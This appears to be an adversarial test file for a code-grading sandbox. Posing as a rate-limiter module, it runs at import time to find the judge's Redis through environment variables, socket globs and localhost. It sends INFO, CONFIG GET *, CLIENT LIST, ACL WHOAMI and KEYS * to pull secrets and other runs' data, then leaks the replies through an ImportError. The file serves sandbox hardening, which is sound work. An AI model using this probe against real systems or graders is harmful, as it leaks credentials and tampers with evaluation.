"""Attack class 7 (import time): find the judge's Redis on its own and interrogate it.

At import, before any test gives it a client, it looks for a Redis: $DRILL_JUDGE_REDIS_URL(S),
$REDIS_URL, unix sockets under /tmp, /run, /var/run and the cwd (recursively, first 50), and
TCP 127.0.0.1:6379. On each it speaks RESP over a raw socket: INFO (server paths, pid, config
file, connected clients), CONFIG GET * (dir, dbfilename, requirepass, rename-commands in
effect), CLIENT LIST (the judge's own connections and their commands), ACL WHOAMI, KEYS *
(state left by other runs or other candidates), then raises ImportError carrying the replies.

Correct verdict: invalid_solution (the import raises). The message must not reveal host paths
or another run's keys: the only Redis reachable from the sandbox is this run's private server,
through one socket, and CONFIG/CLIENT/DEBUG are refused.
"""

import glob
import os
import socket

_loot = []


def _resp(*args):
    out = [f"*{len(args)}\r\n".encode()]
    for arg in args:
        data = arg.encode()
        out.append(b"$%d\r\n%s\r\n" % (len(data), data))
    return b"".join(out)


def _interrogate(sock):
    replies = []
    for command in (("INFO",), ("CONFIG", "GET", "*"), ("CLIENT", "LIST"), ("ACL", "WHOAMI"), ("KEYS", "*")):
        try:
            sock.sendall(_resp(*command))
            replies.append(sock.recv(8192).decode("utf-8", "replace")[:1500])
        except OSError as exc:
            replies.append(repr(exc))
    return replies


_targets = []
for _name in ("DRILL_JUDGE_REDIS_URL", "DRILL_JUDGE_REDIS_URLS", "REDIS_URL"):
    for _url in os.environ.get(_name, "").split(","):
        if _url.startswith("unix://"):
            _targets.append(("unix", _url[len("unix://"):].split("?")[0]))
for _pattern in ("/tmp/**/*.sock", "/run/**/*.sock", "/var/run/**/*.sock", "./**/*.sock", "/tmp/**/redis*"):
    _targets += [("unix", p) for p in glob.glob(_pattern, recursive=True)[:50]]
_targets.append(("tcp", ("127.0.0.1", 6379)))
for _kind, _address in _targets:
    try:
        _s = socket.socket(socket.AF_UNIX) if _kind == "unix" else socket.socket()
        _s.settimeout(1)
        _s.connect(_address)
        _loot.append(f"{_address}: " + " || ".join(_interrogate(_s)))
        _s.close()
    except OSError as exc:
        _loot.append(f"{_address}: {type(exc).__name__}")

raise ImportError("redis not configured; probed: " + " ## ".join(_loot)[:8192])


class RateLimiter:  # never reached
    pass
